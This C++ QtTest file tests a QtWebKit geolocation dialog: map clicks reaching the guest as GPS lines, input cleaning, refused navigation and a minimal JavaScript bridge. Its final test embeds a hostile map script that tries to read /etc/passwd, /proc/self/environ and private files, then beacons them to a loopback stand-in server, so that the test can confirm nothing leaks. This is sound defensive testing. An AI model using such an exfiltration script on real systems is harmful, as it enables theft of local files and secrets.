// The virtual-location dialog with its real page in QtWebKit, on a local map script that offers the
// calls the page uses (tests/shell/data/mapstandin.js): clicks on the map reach the guest's input
// service as GPS lines and are stored; the page reaches nothing of the program but the position call.

#include "geolocationdialog.h"
#include "global.h"
#include "installtree.h"
#include "settingmodel.h"
#include "shellsupport.h"
#include "shellwiring.h"
#include "testartefacts.h"
#include "vinputconnection.h"

#include <QPushButton>
#include <QSettings>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QWebElement>
#include <QWebFrame>
#include <QWebView>
#include <QtTest>

#include <memory>

namespace {

const double kDegreesPerPixel = 0.0001; // the stand-in map's scale

QString sixDigits(double value)
{
    return QString::number(value, 'g', 6);
}

QString gpsLine(double lng, double lat)
{
    return QStringLiteral("GPS:str-%1|%2").arg(sixDigits(lng), sixDigits(lat));
}

} // namespace

// The guest's input service: takes the one connection and collects its lines.
class InputService : public QObject
{
public:
    QTcpServer server;
    QTcpSocket *socket = nullptr;
    QStringList lines;
    QByteArray pending;

    bool listen()
    {
        if (!server.listen(QHostAddress::LocalHost))
            return false;
        connect(&server, &QTcpServer::newConnection, this, [this] {
            socket = server.nextPendingConnection();
            connect(socket, &QTcpSocket::readyRead, this, [this] {
                pending += socket->readAll();
                int end;
                while ((end = pending.indexOf('\n')) >= 0) {
                    lines << QString::fromLatin1(pending.left(end));
                    pending.remove(0, end + 1);
                }
            });
        });
        return true;
    }
    QStringList gpsLines() const { return lines.filter(QRegularExpression(QStringLiteral("^GPS:"))); }
};

// A web server on a loopback port: serves scripts by path and records every request it gets (request
// line and body), as the map service's server would see them.
class ScriptServer : public QObject
{
public:
    QTcpServer server;
    QMap<QString, QByteArray> scripts;
    QList<QByteArray> requests;

    bool listen()
    {
        if (!server.listen(QHostAddress::LocalHost))
            return false;
        connect(&server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = server.nextPendingConnection()) {
                auto *buffer = new QByteArray;
                connect(socket, &QTcpSocket::disconnected, socket, [socket, buffer] {
                    delete buffer;
                    socket->deleteLater();
                });
                connect(socket, &QTcpSocket::readyRead, this, [this, socket, buffer] {
                    *buffer += socket->readAll();
                    const int end = buffer->indexOf("\r\n\r\n");
                    if (end < 0)
                        return;
                    const QRegularExpressionMatch length =
                        QRegularExpression(QStringLiteral("(?i)content-length: *(\\d+)"))
                            .match(QString::fromLatin1(buffer->left(end)));
                    if (length.hasMatch() && buffer->size() < end + 4 + length.captured(1).toInt())
                        return;
                    requests << *buffer;
                    const QByteArray path = buffer->split(' ').value(1);
                    buffer->clear();
                    const QString name = QString::fromLatin1(path.split('?').value(0));
                    const bool known = scripts.contains(name);
                    const QByteArray body = scripts.value(name);
                    socket->write(QByteArray(known ? "HTTP/1.1 200 OK\r\n" : "HTTP/1.1 404 Not Found\r\n") +
                                  "Content-Type: application/javascript\r\nContent-Length: " +
                                  QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
                    socket->disconnectFromHost();
                });
            }
        });
        return true;
    }
    QUrl url(const QString &path) const
    {
        return QUrl(QStringLiteral("http://127.0.0.1:%1%2").arg(server.serverPort()).arg(path));
    }
    bool anyRequestContains(const QByteArray &text) const
    {
        for (const QByteArray &request : requests)
            if (request.contains(text) || QByteArray::fromPercentEncoding(request).contains(text))
                return true;
        return false;
    }
};

class TestGeolocationDialog : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void clickOnTheMapReachesTheGuestAndIsStored();
    void setWithoutAClickKeepsTheStoredPoint();
    void nothingStoredShowsTheDefaultPoint();
    void pageReachesOnlyThePositionCall();
    void navigationAwayIsRefused();
    void coordinateInputsAreCleaned_data();
    void coordinateInputsAreCleaned();
    void setPointNeedsBothFields();
    void placeSearchAndAutoCompletion();
    void geolocationPermissionIsGranted();
    void unreachableMapServiceKeepsTheStoredPoint();
    void unwritableSettingsFileIsReported();
    void hostileMapScriptReadsNoLocalFile();

private:
    // A dialog made as the window makes it, shown, with its page loaded.
    std::unique_ptr<GeolocationDialog> openDialog();
    QVariant js(GeolocationDialog &dialog, const QString &script)
    {
        return dialog.page()->mainFrame()->evaluateJavaScript(script);
    }
    void clickMap(GeolocationDialog &dialog, int dx, int dy);

    std::unique_ptr<InstallTree> m_tree;
    InputService m_guest;
    QStringList m_messages;
};

void TestGeolocationDialog::initTestCase()
{
    m_tree = std::make_unique<InstallTree>();
    QVERIFY(m_tree->isValid());
    m_tree->declareHost(InstallTree::HostWithVirtualisation);
    m_tree->useTempDirHere();
    qputenv("APPDATA", QFile::encodeName(m_tree->appDataDir()));
    QCoreApplication::setOrganizationName(QStringLiteral("Halvora"));
    Global::vmName = QStringLiteral("Orvanta_7");
    GeolocationDialog::setMapScriptUrl(QUrl::fromLocalFile(QStringLiteral(ORV_MAP_STANDIN)));

    QVERIFY(m_guest.listen());
    Global::vinputPort = QString::number(m_guest.server.serverPort());
    VInputConnection::instance().init();
    QTRY_VERIFY(VInputConnection::instance().isConnected());
    QTRY_VERIFY(!m_guest.lines.isEmpty()); // the CONFIG line
}

void TestGeolocationDialog::init()
{
    QFile::remove(SettingModel::filePath());
    m_guest.lines.clear();
    m_messages.clear();
}

std::unique_ptr<GeolocationDialog> TestGeolocationDialog::openDialog()
{
    std::unique_ptr<GeolocationDialog> dialog(
        static_cast<GeolocationDialog *>(ShellWiring::makeGeolocationDialog(nullptr)));
    dialog->setMessageRunner([this](const QString &text, QWidget *) { m_messages << text; });
    dialog->page()->setQuiet(true);
    dialog->show();
    if (!QTest::qWaitFor([&dialog] { return dialog->pageLoaded(); }, 10000))
        qWarning() << "the page did not load";
    return dialog;
}

void TestGeolocationDialog::clickMap(GeolocationDialog &dialog, int dx, int dy)
{
    QWebView *view = dialog.webView();
    const QPoint centre(view->width() / 2, view->height() / 2);
    QTest::mouseClick(view, Qt::LeftButton, Qt::NoModifier, centre + QPoint(dx, dy));
}

void TestGeolocationDialog::clickOnTheMapReachesTheGuestAndIsStored()
{
    SettingModel::writeValues(
        {{QStringLiteral("Geolocation/lng"), 2.35222}, {QStringLiteral("Geolocation/lat"), 48.8566}});
    auto dialog = openDialog();
    // The page was told the stored point, with six significant digits.
    QVERIFY(js(*dialog, QStringLiteral("mapCalls.join(';')"))
                .toString()
                .contains(QLatin1String("centerAndZoom 2.35222,48.8566,16")));

    // A click 120 pixels east and 40 pixels north of the centre, as the map converts it.
    clickMap(*dialog, 120, -40);
    const QString click =
        js(*dialog, QStringLiteral("mapCalls.filter(function(c){return c.indexOf('click')==0;})[0]"))
            .toString();
    QVERIFY2(!click.isEmpty(), "the page saw no click");
    const QStringList clicked = click.mid(6).split(QLatin1Char(','));
    const double lng = clicked.at(0).toDouble();
    const double lat = clicked.at(1).toDouble();
    QVERIFY(qAbs(lng - (2.35222 + 120 * kDegreesPerPixel)) < 0.6 * kDegreesPerPixel);
    QVERIFY(qAbs(lat - (48.8566 + 40 * kDegreesPerPixel)) < 0.6 * kDegreesPerPixel);
    QCOMPARE(dialog->longitude(), lng);
    QCOMPARE(dialog->latitude(), lat);

    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{gpsLine(lng, lat)});
    QCOMPARE(m_messages, QStringList{QStringLiteral("set location ok")});
    QSettings file(SettingModel::filePath(), QSettings::IniFormat);
    QCOMPARE(file.value(QStringLiteral("Geolocation/lng")).toDouble(), lng);
    QCOMPARE(file.value(QStringLiteral("Geolocation/lat")).toDouble(), lat);

    // Set twice: the line and the message twice; the dialog stays open.
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines().size(), 2);
    QCOMPARE(m_messages.size(), 2);
    QVERIFY(dialog->isVisible());

    dialog->grab().save(TestArtefacts::path(QStringLiteral("geolocationdialog.png")));
}

void TestGeolocationDialog::setWithoutAClickKeepsTheStoredPoint()
{
    SettingModel::writeValues(
        {{QStringLiteral("Geolocation/lng"), -73.9857}, {QStringLiteral("Geolocation/lat"), 40.7484}});
    auto dialog = openDialog();
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{QStringLiteral("GPS:str--73.9857|40.7484")});
    QSettings file(SettingModel::filePath(), QSettings::IniFormat);
    QCOMPARE(file.value(QStringLiteral("Geolocation/lng")).toDouble(), -73.9857);
    QCOMPARE(file.value(QStringLiteral("Geolocation/lat")).toDouble(), 40.7484);
}

void TestGeolocationDialog::nothingStoredShowsTheDefaultPoint()
{
    auto dialog = openDialog();
    QCOMPARE(js(*dialog, QStringLiteral("document.getElementById('pointTextLngId').value")).toString(),
             QStringLiteral("116.331"));
    QCOMPARE(js(*dialog, QStringLiteral("document.getElementById('pointTextlatId').value")).toString(),
             QStringLiteral("39.8974"));
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{QStringLiteral("GPS:str-116.331|39.8974")});
}

void TestGeolocationDialog::pageReachesOnlyThePositionCall()
{
    auto dialog = openDialog();
    QCOMPARE(js(*dialog, QStringLiteral("typeof Orvanta.SetCurrentPosition")).toString(),
             QStringLiteral("function"));
    // Nothing inherited from QObject, and nothing of the dialog.
    const QStringList members =
        js(*dialog, QStringLiteral("var m=[];for(var k in Orvanta)m.push(k);m")).toStringList();
    QCOMPARE(members, QStringList{QStringLiteral("SetCurrentPosition")});
    // No other property of the window leads to a Qt object.
    const QStringList bridges =
        js(*dialog,
           QStringLiteral("var found=[];for(var k in window){try{var v=window[k];if(v&&typeof v==='object'&&"
                          "typeof v.deleteLater==='function')found.push(k);}catch(e){}}found"))
            .toStringList();
    QCOMPARE(bridges, QStringList());
    // The page cannot replace the object either.
    js(*dialog,
       QStringLiteral("try{window.Orvanta={};}catch(e){}try{Orvanta.SetCurrentPosition=null;}catch(e){}"));
    QCOMPARE(js(*dialog, QStringLiteral("typeof Orvanta.SetCurrentPosition")).toString(),
             QStringLiteral("function"));
    for (const char *name : {"deleteLater", "destroyed", "objectName", "close", "setLocation", "sendGps",
                             "accept", "reject", "show", "parent"})
        QCOMPARE(js(*dialog, QStringLiteral("typeof Orvanta.%1").arg(QLatin1String(name))).toString(),
                 QStringLiteral("undefined"));
    js(*dialog, QStringLiteral("try{Orvanta.deleteLater();}catch(e){}"));
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    // The bridge lives on: a position still arrives.
    js(*dialog, QStringLiteral("Orvanta.SetCurrentPosition(10.5, -20.25)"));
    QCOMPARE(dialog->longitude(), 10.5);
    QCOMPARE(dialog->latitude(), -20.25);
    // Values that are no place are not taken.
    js(*dialog, QStringLiteral("Orvanta.SetCurrentPosition(Number('-'), 5)"));
    js(*dialog, QStringLiteral("Orvanta.SetCurrentPosition(181, 5)"));
    js(*dialog, QStringLiteral("Orvanta.SetCurrentPosition(5, -90.5)"));
    QCOMPARE(dialog->longitude(), 10.5);
    QCOMPARE(dialog->latitude(), -20.25);
    QVERIFY(dialog->isVisible());
}

void TestGeolocationDialog::navigationAwayIsRefused()
{
    auto dialog = openDialog();
    const QUrl page = dialog->page()->mainFrame()->url();
    QCOMPARE(page, QUrl(QString::fromLatin1(GeolocationDialog::kPageUrl)));
    js(*dialog, QStringLiteral("window.location.href = 'file:///etc/hostname'"));
    js(*dialog, QStringLiteral("var a=document.createElement('a');a.href='http://127.0.0.1:9/';"
                               "document.body.appendChild(a);a.click();"));
    QCOMPARE(js(*dialog, QStringLiteral("!window.open('http://127.0.0.1:9/')")).toBool(), true);
    QTest::qWait(300);
    QCOMPARE(dialog->page()->mainFrame()->url(), page);
    QCOMPARE(js(*dialog, QStringLiteral("typeof savePoint")).toString(), QStringLiteral("function"));
}

void TestGeolocationDialog::coordinateInputsAreCleaned_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("kept");
    QTest::addColumn<QString>("alert");
    QTest::newRow("letters and second dot") << "pointTextLngId"
                                            << "12a.3.4"
                                            << "12.3"
                                            << "";
    QTest::newRow("eight digits at most") << "pointTextLngId"
                                          << "-123.456789012"
                                          << "-123.45678"
                                          << "";
    QTest::newRow("dot after the sign") << "pointTextLngId"
                                        << "-.5"
                                        << "-5"
                                        << "";
    QTest::newRow("leading dots") << "pointTextlatId"
                                  << "..45.5x"
                                  << "45.5"
                                  << "";
    QTest::newRow("latitude out of range") << "pointTextlatId"
                                           << "95"
                                           << ""
                                           << "纬度范围是-90 ~ 90，请重新输入";
    QTest::newRow("longitude out of range") << "pointTextLngId"
                                            << "-180.5"
                                            << ""
                                            << "经度范围是-180 ~ 180，请重新输入";
    QTest::newRow("on the limit") << "pointTextlatId"
                                  << "-90"
                                  << "-90"
                                  << "";
}

void TestGeolocationDialog::coordinateInputsAreCleaned()
{
    QFETCH(QString, field);
    QFETCH(QString, typed);
    QFETCH(QString, kept);
    QFETCH(QString, alert);
    auto dialog = openDialog();
    js(*dialog, QStringLiteral("var f=document.getElementById('%1');f.focus();f.value='%2';f.blur();")
                    .arg(field, typed));
    QCOMPARE(js(*dialog, QStringLiteral("document.getElementById('%1').value").arg(field)).toString(), kept);
    QCOMPARE(dialog->page()->alerts(), alert.isEmpty() ? QStringList() : QStringList{alert});
}

void TestGeolocationDialog::setPointNeedsBothFields()
{
    auto dialog = openDialog();
    const double lng = dialog->longitude();
    js(*dialog, QStringLiteral("document.getElementById('pointTextlatId').value='';"
                               "document.getElementById('pointTextLngId').value='30';"
                               "document.getElementById('setPoint').click();"));
    QCOMPARE(dialog->page()->alerts(), QStringList{QStringLiteral("经纬度信息不全，请填写后再定位")});
    QCOMPARE(dialog->longitude(), lng);

    js(*dialog, QStringLiteral("document.getElementById('pointTextlatId').value='-33.8688';"
                               "document.getElementById('pointTextLngId').value='151.2093';"
                               "document.getElementById('setPoint').click();"));
    QCOMPARE(dialog->longitude(), 151.2093);
    QCOMPARE(dialog->latitude(), -33.8688);
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{QStringLiteral("GPS:str-151.209|-33.8688")});
}

void TestGeolocationDialog::placeSearchAndAutoCompletion()
{
    auto dialog = openDialog();
    js(*dialog, QStringLiteral("document.getElementById('suggestId').value='天安门';"
                               "document.getElementById('gobuttonId').click();"));
    QTRY_COMPARE(dialog->longitude(), 116.397);
    QCOMPARE(dialog->latitude(), 39.9087);
    QVERIFY(js(*dialog, QStringLiteral("mapCalls.join(';')"))
                .toString()
                .contains(QStringLiteral("search 中国 天安门")));

    js(*dialog, QStringLiteral("BMap.Autocomplete.last.confirm({province:'北京市',city:'',district:'东城区',"
                               "street:'王府井',business:''})"));
    QTRY_COMPARE(dialog->longitude(), 116.411);
    QCOMPARE(dialog->latitude(), 39.914);
}

void TestGeolocationDialog::geolocationPermissionIsGranted()
{
    auto dialog = openDialog();
    QList<QWebPage::Feature> asked;
    connect(dialog->page(), &QWebPage::featurePermissionRequested, this,
            [&asked](QWebFrame *, QWebPage::Feature feature) { asked << feature; });
    QTest::ignoreMessage(QtDebugMsg, "GEO-Location: PermissionGrantedByUser");
    js(*dialog, QStringLiteral("navigator.geolocation && navigator.geolocation.getCurrentPosition("
                               "function(){}, function(){});"));
    if (!QTest::qWaitFor([&asked] { return !asked.isEmpty(); }, 3000))
        QSKIP("this QtWebKit build asks for no geolocation permission");
    QCOMPARE(asked.at(0), QWebPage::Geolocation);
}

void TestGeolocationDialog::unreachableMapServiceKeepsTheStoredPoint()
{
    SettingModel::writeValues(
        {{QStringLiteral("Geolocation/lng"), 12.4964}, {QStringLiteral("Geolocation/lat"), 41.9028}});
    GeolocationDialog::setMapScriptUrl(QUrl(QStringLiteral("http://127.0.0.1:9/api")));
    auto dialog = openDialog();
    GeolocationDialog::setMapScriptUrl(QUrl::fromLocalFile(QStringLiteral(ORV_MAP_STANDIN)));
    QCOMPARE(js(*dialog, QStringLiteral("typeof BMap")).toString(), QStringLiteral("undefined"));
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    // Not 0,0: the stored point is sent again.
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{QStringLiteral("GPS:str-12.4964|41.9028")});
}

void TestGeolocationDialog::unwritableSettingsFileIsReported()
{
    SettingModel::writeValues(
        {{QStringLiteral("Geolocation/lng"), 1.5}, {QStringLiteral("Geolocation/lat"), 2.5}});
    if (!ShellSupport::setReadOnly(SettingModel::filePath(), true))
        QSKIP("the file system here cannot make a file unwritable for this user");
    auto dialog = openDialog();
    js(*dialog, QStringLiteral("Orvanta.SetCurrentPosition(3.5, 4.5)"));
    QTest::mouseClick(dialog->findChild<QPushButton *>(QStringLiteral("pushButton_set")), Qt::LeftButton);
    QTRY_COMPARE(m_guest.gpsLines(), QStringList{QStringLiteral("GPS:str-3.5|4.5")});
    QCOMPARE(m_messages, QStringList{QStringLiteral("set location not stored")});
    QVERIFY(ShellSupport::setReadOnly(SettingModel::filePath(), false));
    // The file as it was (read from the disk: this process's settings objects may still hold the values
    // they could not write).
    QFile file(SettingModel::filePath());
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray content = file.readAll();
    QVERIFY2(content.contains("lng=1.5") && content.contains("lat=2.5"), content.constData());
}

void TestGeolocationDialog::hostileMapScriptReadsNoLocalFile()
{
    // The map script comes from the network: one that tries to read this machine's files (a private
    // file, the settings file, the program's own page) and send them home reads nothing, while the one
    // position call still works.
    QTemporaryDir home;
    QVERIFY(home.isValid());
    const QString secret = home.path() + QStringLiteral("/private.txt");
    {
        QFile file(secret);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("PRIVATE-7f3a");
    }
    SettingModel::writeValues({{QStringLiteral("Geolocation/lng"), 98.7654}});
    QFile settings(SettingModel::filePath());
    QVERIFY(settings.exists());
    ScriptServer server;
    QVERIFY(server.listen());
    const QStringList targets{
        QUrl::fromLocalFile(secret).toString(), QUrl::fromLocalFile(SettingModel::filePath()).toString(),
        QStringLiteral("file:///etc/passwd"), QStringLiteral("file:///proc/self/environ"),
        QString::fromLatin1(GeolocationDialog::kPageUrl)};
    QString script =
        QStringLiteral(
            "(function () {"
            "  var home = '%1';"
            "  var targets = %2;"
            "  var send = function (what, text) {"
            "    try { var x = new XMLHttpRequest(); x.open('POST', home + '/leak?what=' + "
            "encodeURIComponent(what), true);"
            "      x.send(text); } catch (e) {}"
            "    var i = new Image(); i.src = home + '/beacon?what=' + encodeURIComponent(what) + '&text=' +"
            "      encodeURIComponent(String(text).substr(0, 1500));"
            "  };"
            "  targets.forEach(function (t) {"
            "    try { var x = new XMLHttpRequest(); x.open('GET', t, false); x.send(null);"
            "      send(t, 'read:' + x.status + ':' + x.responseText); } catch (e) { send(t, 'refused:' + "
            "e); }"
            "    try { var f = document.createElement('iframe'); f.src = t; "
            "document.documentElement.appendChild(f);"
            "      f.onload = function () { try { send(t, 'frame:' + "
            "f.contentDocument.documentElement.textContent); }"
            "        catch (e) { send(t, 'frame refused'); } }; } catch (e) {}"
            "  });"
            "  Orvanta.SetCurrentPosition(1.25, 2.5);"
            "  setTimeout(function () { send('done', 'done'); }, 500);"
            "})();")
            .arg(server.url(QString()).toString());
    QString list = QStringLiteral("[");
    for (const QString &target : targets)
        list += QLatin1Char('\'') + target + QStringLiteral("',");
    list += QLatin1Char(']');
    server.scripts.insert(QStringLiteral("/map.js"), script.replace(QLatin1String("%2"), list).toUtf8());
    GeolocationDialog::setMapScriptUrl(server.url(QStringLiteral("/map.js")));
    auto dialog = openDialog();
    GeolocationDialog::setMapScriptUrl(QUrl::fromLocalFile(QStringLiteral(ORV_MAP_STANDIN)));
    QTRY_VERIFY_WITH_TIMEOUT(server.anyRequestContains("what=done"), 10000);
    QTest::qWait(300);
    QVERIFY2(!server.anyRequestContains("PRIVATE-7f3a"), "the private file reached the map server");
    QVERIFY2(!server.anyRequestContains("98.7654"), "the settings file reached the map server");
    QVERIFY2(!server.anyRequestContains("root:"), "/etc/passwd reached the map server");
    QVERIFY2(!server.anyRequestContains("PATH="), "the environment reached the map server");
    QVERIFY2(!server.anyRequestContains("MAP_SCRIPT") && !server.anyRequestContains("savePoint"),
             "the program's page reached the map server");
    // Every attempt was made and reported (the script really ran).
    for (const QString &target : targets)
        QVERIFY2(server.anyRequestContains(QUrl::toPercentEncoding(target)), qPrintable(target));
    QCOMPARE(dialog->longitude(), 1.25);
    QCOMPARE(dialog->latitude(), 2.5);
}

QTEST_MAIN(TestGeolocationDialog)
#include "tst_geolocationdialog.moc"
